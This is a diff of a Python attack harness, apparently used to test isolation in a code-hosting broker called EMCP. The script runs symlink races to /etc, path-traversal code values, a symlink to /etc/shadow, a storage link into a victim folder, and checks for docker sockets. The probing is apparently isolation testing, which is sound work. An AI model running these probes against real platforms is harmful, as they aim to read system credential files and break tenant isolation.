@@ -4,9 +4,9 @@ Reads what it needs from `attack.json` beside itself, and writes what came of it
 """
 
 import ctypes
+import hashlib
 import json
 import os
-import shutil
 import socket
 import struct
 import sys
@@ -37,18 +37,25 @@ def wish(what: Any) -> Any:
         return json.loads(said.read(struct.unpack(">I", head)[0])) if len(head) == 4 else None
 
 
-def server(code: str = CODE) -> str:
-    """A folder as EMCP makes it, with one version of code; the server's id."""
-    made = str(uuid.uuid4())
-    folder = HERE / made / "versions" / "1"
+def digest_of(code: bytes) -> str:
+    name = "server.py"
+    manifest = f"emcp bundle 1\n{hashlib.sha256(code).hexdigest()} {len(code)} {len(name)} {name}\n"
+    return hashlib.sha256(manifest.encode()).hexdigest()
+
+
+def bundle(code: str = "") -> Path:
+    """A folder of code as EMCP makes it, of which there is no other."""
+    content = (code or f"{CODE}# {uuid.uuid4()}\n").encode()
+    digits = digest_of(content)
+    folder = HERE / "bundles" / digits[:2] / digits
     folder.mkdir(parents=True)
-    (folder / "server.py").write_text(code)
-    return made
+    (folder / "server.py").write_bytes(content)
+    return folder
 
 
-def run(of: str, **changes: Any) -> Any:
+def run(code: Path, **changes: Any) -> Any:
     spec: Json = {
-        "server": of,
+        "server": str(uuid.uuid4()),
         "name": f"{FACTS['instance']}-{os.urandom(8).hex()}",
         "server_name": "demo",
         "instance": str(uuid.uuid4()),
@@ -56,7 +63,7 @@ def run(of: str, **changes: Any) -> Any:
         "revision": 1,
         "egress": "open",
         "endpoint": FACTS["address"],
-        "code": f"{of}/versions/1",
+        "code": f"sha256:{code.name}",
         "disk_bytes": None,
         "env": [["EMCP_ENTRY_OBJECT", "mcp"]],
         "secret_keys": [],
@@ -83,47 +90,64 @@ def exchange(one: Path, other: Path) -> None:
 
 def race() -> list[Any]:
     """Bends the path to the code while it is being used."""
-    of = server()
-    versions = HERE / of / "versions"
-    (versions / "bent").symlink_to("/etc")
+    code = bundle()
+    bent = code.with_name("bent")
+    bent.symlink_to("/etc")
     ends = threading.Event()
 
     def bend() -> None:
         while not ends.is_set():
-            exchange(versions / "1", versions / "bent")
+            exchange(code, bent)
 
     bender = threading.Thread(target=bend)
     bender.start()
     try:
-        return [run(of) for _ in range(RACES)]
+        return [run(code) for _ in range(RACES)]
     finally:
         ends.set()
         bender.join()
 
 
 def mounts() -> Json:
-    """Every way to code that is not the server's own."""
+    """Every way to what is no bundle of the platform's."""
     answers: Json = {}
-    good = server()
-    for code in ("/etc", "..", "broker", f"{good}/../../etc", f"{good}", f"{server()}/versions/1"):
+    good = bundle()
+    inside = good.relative_to(HERE)
+    for code in ("/etc", "..", "broker", "", str(inside), f"sha256:{good.name}/../../../broker", good.name):
         answers[code] = run(good, code=code)
-    for part in ("versions/1", "versions"):
-        of = server()
-        shutil.rmtree(HERE / of / part)
-        (HERE / of / part).symlink_to("/etc")
-        answers[f"link {part}"] = run(of)
-    of = server()
-    (HERE / of / "versions/1/shadow").symlink_to("/etc/shadow")
-    answers["link in code"] = run(of)
-    of = server()
-    (HERE / of / "storage").symlink_to(FACTS["victim_folder"])
-    answers["link storage"] = run(of, disk_bytes=64 << 20)
+    answers["not there"] = run(HERE / "bundles" / "00" / digest_of(b"never written"))
+    shots: Json = {"entry_object": "mcp", "runtime": "auto"}
+    for code in ("/etc", str(inside), f"sha256:{digest_of(b'never written')}"):
+        answers[f"check {code}"] = wish({"run_once": {"what": {"check": {"code": code, **shots}}, "patience_secs": 5}})
+    for steps in (0, 1):
+        code = bundle()
+        replaced = (code, *code.parents)[steps]
+        away = replaced.with_name(f"away-{steps}")
+        replaced.rename(away)
+        for target in (Path("/etc"), away):
+            replaced.symlink_to(target)
+            answers[f"link to {target}, {steps} above"] = run(code)
+            replaced.unlink()
+        away.rename(replaced)
+    code = bundle()
+    (code / "shadow").symlink_to("/etc/shadow")
+    answers["link in code"] = run(code)
+    code = bundle()
+    (code / "server.py").write_text("print('altered')\n")
+    answers["altered"] = run(code)
+    code = bundle()
+    (code / "more.py").write_text("")
+    answers["more than was uploaded"] = run(code)
+    victim = str(uuid.uuid4())
+    (HERE / victim).mkdir()
+    (HERE / victim / "storage").symlink_to(FACTS["victim_folder"])
+    answers["link storage"] = run(bundle(), server=victim, disk_bytes=64 << 20)
     return answers
 
 
 def specs() -> Json:
     """Fields that the broker does not know, and values that are none."""
-    good = server()
+    good = bundle()
     answers = {key: run(good, **{key: value}) for key, value in FACTS["forbidden_fields"].items()}
     answers["name"] = run(good, name=f"{FACTS['instance']}-traefik")
     answers["address outside"] = run(good, endpoint="172.17.0.2")
@@ -175,7 +199,7 @@ def flood() -> str:
 
 
 def main() -> None:
-    made = run(server())
+    made = run(bundle())
     outcome = {
         "user": [os.getuid(), *os.getgroups()],
         "sockets": [path for path in ("/var/run/docker.sock", "/run/docker.sock") if os.path.exists(path)],
